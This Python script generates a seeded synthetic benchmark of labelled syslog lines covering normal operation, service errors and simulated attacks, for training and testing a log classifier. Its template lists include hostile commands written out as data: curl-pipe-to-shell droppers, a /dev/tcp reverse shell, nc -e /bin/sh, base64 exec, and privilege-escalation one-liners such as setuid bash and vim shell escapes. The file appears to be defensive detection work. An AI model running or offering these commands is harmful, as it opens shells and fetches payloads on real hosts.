"""Labelled syslog/auth lines for `stackgen classify`: simulated attacks and normal operation.

A seeded, deterministic generator: the same seed gives the same lines. Each line is a syslog line
(`Mon DD HH:MM:SS host program[pid]: message`) drawn from one of several templates per risk
category, with variable hosts, users, IP addresses, ports, pids, paths and services.

Categories (alert = the risky ones an operator is paged for; `normal` and `service_error` are not):

    normal                everyday logins, sessions, cron jobs, service starts, routine sudo
    service_error         failing services, disks, memory, upstreams (operations, not attacks)
    auth_failure          password guessing, invalid users, too many authentication failures   alert
    privilege_escalation  sudo to a shell, not in sudoers, new privileged accounts, setuid bits   alert
    recon                 port scans, probes without identification, key-exchange probing, 404s  alert
    malware               droppers, miners, persistence by cron/systemd/authorized_keys          alert

Not trivially separable on purpose: the categories share vocabulary (`Failed password` of a user's
typo is normal, `Failed to start` is a service error; `session opened for user root` is routine
by cron and escalation by su; `Connection closed by ... [preauth]` ends both a probe and a
guess; `Created symlink` enables a real service and a miner; `sudo: authentication failure` is
both a guess and an escalation attempt), and some templates are used by two categories with the
same words, so a share of the lines is ambiguous by construction.

The split is fixed: line i of the generated sequence is a test line when i % 4 == 3, else a
training line (75% / 25%).

    python benchmarks/classify_data.py -o DIR [--lines 12000] [--seed 7]   # DIR/train.tsv, DIR/test.tsv
"""
from __future__ import annotations

import argparse
import datetime as dt
import random
from pathlib import Path

ALERTS = ("auth_failure", "privilege_escalation", "recon", "malware")
CATEGORIES = ("normal", "service_error") + ALERTS
SHARE = {"normal": 0.40, "service_error": 0.14, "auth_failure": 0.16, "privilege_escalation": 0.10,
         "recon": 0.10, "malware": 0.10}

HOSTS = ["web-01", "web-02", "db-01", "db-02", "mail", "bastion", "build-07", "cache-3", "api-prod-1", "vpn-gw"]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "deploy", "backup", "jenkins", "postgres"]
GUESSES = ["admin", "test", "oracle", "ubnt", "guest", "user", "pi", "support", "ftpuser", "mysql", "root",
           "administrator", "git", "hadoop", "nagios", "alice", "bob"]
SERVICES = ["nginx", "postgresql", "redis-server", "docker", "cron", "rsyslog", "ssh", "postfix", "elasticsearch",
            "grafana-server", "node-exporter", "php-fpm"]
ROUTINE = ["/usr/bin/apt update", "/usr/bin/systemctl restart nginx", "/usr/bin/journalctl -u docker",
           "/usr/bin/tail -n 100 /var/log/syslog", "/usr/sbin/service postgresql reload", "/usr/bin/docker ps",
           "/bin/systemctl status redis-server", "/usr/bin/apt-get upgrade -y"]
SHELLS = ["/bin/bash", "/bin/sh", "/usr/bin/su -", "/usr/bin/python3 -c import pty;pty.spawn('/bin/sh')",
          "/usr/bin/find . -exec /bin/sh \\; -quit", "/usr/bin/vim -c ':!/bin/sh'", "/bin/chmod u+s /bin/bash",
          "/usr/bin/chown root:root /tmp/.x", "/usr/bin/cp /bin/bash /tmp/.sh"]
DROPPERS = ["curl -fsSL http://{ip}/x.sh | sh", "wget -q http://{ip}:{hport}/.k -O /tmp/.k", "/tmp/.X11-unix/kworkerds",
            "/dev/shm/.dbus -c /dev/shm/.conf", "bash -i >& /dev/tcp/{ip}/{hport} 0>&1", "nc -e /bin/sh {ip} {hport}",
            "/var/tmp/.systemd-update --donate-level 1", "python -c exec(__import__('base64').b64decode('{hexid}'))"]
MINERS = ["xmrig", "kdevtmpfsi", "kinsing", "sysupdate", "networkservice", "dbused"]
PROBES = ["/wp-login.php", "/.env", "/phpmyadmin/index.php", "/.git/config", "/cgi-bin/luci", "/actuator/health",
          "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/HNAP1/", "/boaform/admin/formLogin", "/solr/admin/info"]
PAGES = ["/", "/index.html", "/api/v1/orders", "/static/app.js", "/login", "/health", "/img/logo.png"]
DEVICES = ["sda", "sdb", "nvme0n1", "xvda"]

# (weight, program, message) per category; {placeholders} are filled by Fill
TEMPLATES: dict[str, list[tuple[float, str, str]]] = {
    "normal": [
        (6, "sshd", "Accepted publickey for {user} from {lan} port {port} ssh2: ED25519 SHA256:{hexid}"),
        (3, "sshd", "Accepted password for {user} from {lan} port {port} ssh2"),
        (5, "sshd", "pam_unix(sshd:session): session opened for user {user} by (uid=0)"),
        (5, "sshd", "pam_unix(sshd:session): session closed for user {user}"),
        (4, "sshd", "Received disconnect from {lan} port {port}:11: disconnected by user"),
        (6, "CRON", "pam_unix(cron:session): session opened for user root by (uid=0)"),
        (5, "CRON", "(root) CMD (/usr/lib/php/sessionclean)"),
        (3, "CRON", "({user}) CMD (/home/{user}/bin/backup.sh > /dev/null 2>&1)"),
        (5, "systemd", "Started {service}.service."),
        (3, "systemd", "Stopping {service}.service..."),
        (2, "systemd", "Created symlink /etc/systemd/system/multi-user.target.wants/{service}.service"),
        (4, "sudo", "{user} : TTY=pts/{tty} ; PWD=/home/{user} ; USER=root ; COMMAND={routine}"),
        (3, "sudo", "pam_unix(sudo:session): session opened for user root by {user}(uid={uid})"),
        (3, "systemd-logind", "New session {n} of user {user}."),
        (2, "systemd-logind", "Removed session {n}."),
        (2, "dhclient", "DHCPACK of {lan} from {gw}"),
        (2, "ntpd", "Soliciting pool server {ip}"),
        (3, "nginx", "{lan} - - \"GET {page} HTTP/1.1\" 200 {bytes}"),
        (2, "postfix/smtp", "{hexid}: to=<{user}@example.com>, relay=mx.example.com[{ip}]:25, status=sent (250 ok)"),
        (1, "sshd", "Failed password for {user} from {lan} port {port} ssh2"),  # a typo, then Accepted
        (1, "su", "(to root) {user} on pts/{tty}"),  # same as escalation's
        (1, "usermod", "add '{user}' to group 'docker'"),
    ],
    "service_error": [
        (5, "systemd", "Failed to start {service}.service."),
        (4, "systemd", "{service}.service: Main process exited, code=exited, status=1/FAILURE"),
        (3, "systemd", "{service}.service: Failed with result 'exit-code'."),
        (3, "kernel", "blk_update_request: I/O error, dev {dev}, sector {n}"),
        (3, "kernel", "Out of memory: Killed process {pid} (java) total-vm:{n}kB"),
        (3, "nginx", "upstream timed out (110: Connection timed out) while reading response header from upstream"),
        (2, "postfix/smtp", "connect to mx.example.com[{ip}]:25: Connection refused"),
        (2, "rsyslogd", "file '/var/log/syslog': write error: No space left on device"),
        (2, "ntpd", "no servers can be used, system clock unsynchronized"),
        (2, "postgres", "FATAL: the database system is in recovery mode"),
        (2, "dockerd", "error: failed to start container {hexid}: exit status 1"),
        (1, "sshd", "error: Bind to port 22 on 0.0.0.0 failed: Address already in use."),
        (1, "CRON", "(CRON) error (grandchild #{pid} failed with exit status 1)"),
        (1, "systemd", "Stopping {service}.service..."),  # the stop before a failed restart, as normal's
    ],
    "auth_failure": [
        (6, "sshd", "Failed password for invalid user {guess} from {ip} port {port} ssh2"),
        (5, "sshd", "Failed password for {guess} from {ip} port {port} ssh2"),
        (5, "sshd", "Invalid user {guess} from {ip} port {port}"),
        (3, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"),
        (2, "sshd", "error: maximum authentication attempts exceeded for {guess} from {ip} port {port} ssh2 [preauth]"),
        (2, "sshd", "Disconnecting invalid user {guess} {ip} port {port}: Too many authentication failures [preauth]"),
        (2, "sshd", "PAM {k} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"),
        (2, "sshd", "Connection closed by invalid user {guess} {ip} port {port} [preauth]"),
        (1, "sshd", "Connection closed by authenticating user {guess} {ip} port {port} [preauth]"),
        (1, "login", "FAILED LOGIN (1) on '/dev/tty1' FOR '{guess}', Authentication failure"),
        (1, "dovecot", "auth: pam_unix(dovecot:auth): authentication failure; rhost={ip} user={guess}"),
        (1, "sudo", "pam_unix(sudo:auth): authentication failure; logname={user} uid={uid} tty=/dev/pts/{tty} user={user}"),
    ],
    "privilege_escalation": [
        (4, "sudo", "{user} : TTY=pts/{tty} ; PWD=/tmp ; USER=root ; COMMAND={shell}"),
        (3, "sudo", "{user} : user NOT in sudoers ; TTY=pts/{tty} ; PWD=/home/{user} ; USER=root ; COMMAND={shell}"),
        (2, "sudo", "{user} : 3 incorrect password attempts ; TTY=pts/{tty} ; PWD=/home/{user} ; USER=root ; COMMAND={shell}"),
        (2, "sudo", "pam_unix(sudo:auth): authentication failure; logname={user} uid={uid} tty=/dev/pts/{tty} user={user}"),
        (3, "su", "(to root) {user} on pts/{tty}"),
        (2, "su", "pam_unix(su:session): session opened for user root by {user}(uid={uid})"),
        (2, "useradd", "new user: name={svc}, UID=0, GID=0, home=/root, shell=/bin/bash"),
        (2, "usermod", "add '{user}' to group 'sudo'"),
        (2, "pkexec", "{user}: Executing command [USER=root] [TTY=unknown] [CWD=/tmp] [COMMAND={shell}]"),
        (1, "kernel", "{binary}[{pid}]: segfault at {hexid} ip {hexid} sp {hexid} error 4 in libc.so.6"),
        (1, "passwd", "pam_unix(passwd:chauthtok): password changed for root"),
        (1, "sudo", "pam_unix(sudo:session): session opened for user root by {user}(uid={uid})"),
    ],
    "recon": [
        (5, "kernel", "[UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lan} LEN=44 PROTO=TCP SPT={port} DPT={dport} SYN"),
        (4, "sshd", "Did not receive identification string from {ip} port {port}"),
        (3, "sshd", "Unable to negotiate with {ip} port {port}: no matching key exchange method found."),
        (3, "sshd", "Connection closed by {ip} port {port} [preauth]"),
        (2, "sshd", "Bad protocol version identification 'GET / HTTP/1.1' from {ip} port {port}"),
        (2, "sshd", "Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
        (4, "nginx", "{ip} - - \"GET {probe} HTTP/1.1\" 404 {bytes}"),
        (2, "portsentry", "attackalert: SYN/Normal scan from host: {ip}/{ip} to TCP port: {dport}"),
        (1, "snort", "[1:469:3] ICMP PING NMAP [Classification: Attempted Information Leak] {{ICMP}} {ip} -> {lan}"),
        (1, "postfix/smtpd", "lost connection after CONNECT from unknown[{ip}]"),
    ],
    "malware": [
        (4, "CRON", "(root) CMD ({dropper})"),
        (3, "crontab", "({cuser}) REPLACE ({cuser})"),
        (2, "crontab", "({cuser}) BEGIN EDIT ({cuser})"),
        (3, "systemd", "Created symlink /etc/systemd/system/multi-user.target.wants/{miner}.service"),
        (3, "systemd", "Started {miner}.service."),
        (2, "kernel", "audit: type=1400 apparmor=\"DENIED\" operation=\"exec\" name=\"/tmp/.{miner}\" pid={pid}"),
        (2, "clamd", "/tmp/.{miner}: Unix.Trojan.Mirai-{n} FOUND"),
        (2, "auditd", "type=EXECVE argc=3 a0=\"sh\" a1=\"-c\" a2=\"{dropper}\""),
        (2, "sshd", "Accepted publickey for root from {ip} port {port} ssh2: RSA SHA256:{hexid}"),
        (1, "auditd", "type=PATH name=\"/root/.ssh/authorized_keys\" nametype=NORMAL op=modified"),
        (1, "kernel", "{miner}[{pid}]: cpu usage 398% for {n} seconds"),
        (1, "systemd", "Stopping {service}.service..."),  # the dropper stops a competitor or a guard
    ],
}


class Fill(dict):
    """Placeholder values drawn at random, fresh for each line."""

    def __init__(self, rng: random.Random):
        super().__init__()
        self.rng = rng

    def __missing__(self, key: str) -> str:
        r = self.rng
        ip = lambda: f"{r.choice([45, 61, 103, 185, 193, 203, 218])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"  # noqa: E731
        values = {
            "user": lambda: r.choice(USERS), "guess": lambda: r.choice(GUESSES), "service": lambda: r.choice(SERVICES),
            "ip": ip, "lan": lambda: f"10.{r.randrange(4)}.{r.randrange(256)}.{r.randrange(1, 255)}",
            "gw": lambda: f"10.{r.randrange(4)}.0.1", "port": lambda: str(r.randrange(1024, 65536)),
            "dport": lambda: str(r.choice([21, 22, 23, 25, 80, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080])),
            "hport": lambda: str(r.choice([80, 443, 4444, 8080, 1337])),
            "pid": lambda: str(r.randrange(300, 99999)), "n": lambda: str(r.randrange(1, 100000)),
            "k": lambda: str(r.randrange(1, 6)), "tty": lambda: str(r.randrange(8)), "uid": lambda: str(r.randrange(1000, 1010)),
            "bytes": lambda: str(r.randrange(100, 90000)),
            "hexid": lambda: "".join(r.choice("0123456789abcdef") for _ in range(r.choice([8, 12, 16]))),
            "routine": lambda: r.choice(ROUTINE), "shell": lambda: r.choice(SHELLS),
            "dropper": lambda: r.choice(DROPPERS).format(ip=ip(), hport=r.choice([80, 4444, 8080]),
                                                          hexid="".join(r.choice("abcdef0123456789") for _ in range(24))),
            "miner": lambda: r.choice(MINERS), "probe": lambda: r.choice(PROBES), "page": lambda: r.choice(PAGES),
            "dev": lambda: r.choice(DEVICES), "svc": lambda: r.choice(["sysadm", "toor", "backdoor", "support", "nagios"]),
            "cuser": lambda: r.choice(["root", "www-data", "postgres", "redis"]),
            "binary": lambda: r.choice(["pwnkit", "exploit", "dirtycow", "a.out", "polkit-agent"]),
        }
        self[key] = value = values[key]()
        return value


def generate(lines: int = 12000, seed: int = 7) -> list[tuple[str, str]]:
    """`lines` (category, syslog line) pairs, the same for the same seed."""
    rng = random.Random(seed)
    categories = list(SHARE)
    shares = [SHARE[c] for c in categories]
    clock = dt.datetime(2026, 3, 1, 0, 0, 0)
    rows = []
    for _ in range(lines):
        category = rng.choices(categories, shares)[0]
        templates = TEMPLATES[category]
        _, program, message = rng.choices(templates, [w for w, _, _ in templates])[0]
        clock += dt.timedelta(seconds=rng.randrange(0, 40))
        stamp = f"{clock:%b} {clock.day:2d} {clock:%H:%M:%S}"
        pid = "" if program in ("kernel",) else f"[{rng.randrange(300, 99999)}]"
        rows.append((category, f"{stamp} {rng.choice(HOSTS)} {program}{pid}: {message.format_map(Fill(rng))}"))
    return rows


def split(rows: list[tuple[str, str]]) -> tuple[list[tuple[str, str]], list[tuple[str, str]]]:
    """The fixed split: (train, test), line i in test when i % 4 == 3."""
    return [r for i, r in enumerate(rows) if i % 4 != 3], [r for i, r in enumerate(rows) if i % 4 == 3]


def tsv(rows: list[tuple[str, str]]) -> str:
    """TRAIN.tsv text: CATEGORY<TAB>LOG LINE per line."""
    return "".join(f"{category}\t{line}\n" for category, line in rows)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("-o", "--output", type=Path, required=True, help="directory for train.tsv and test.tsv")
    parser.add_argument("--lines", type=int, default=12000)
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()
    train, test = split(generate(args.lines, args.seed))
    args.output.mkdir(parents=True, exist_ok=True)
    (args.output / "train.tsv").write_text(tsv(train), encoding="utf-8")
    (args.output / "test.tsv").write_text(tsv(test), encoding="utf-8")
    print(f"wrote {args.output / 'train.tsv'} ({len(train)} lines) and {args.output / 'test.tsv'} ({len(test)} lines)")


if __name__ == "__main__":
    main()
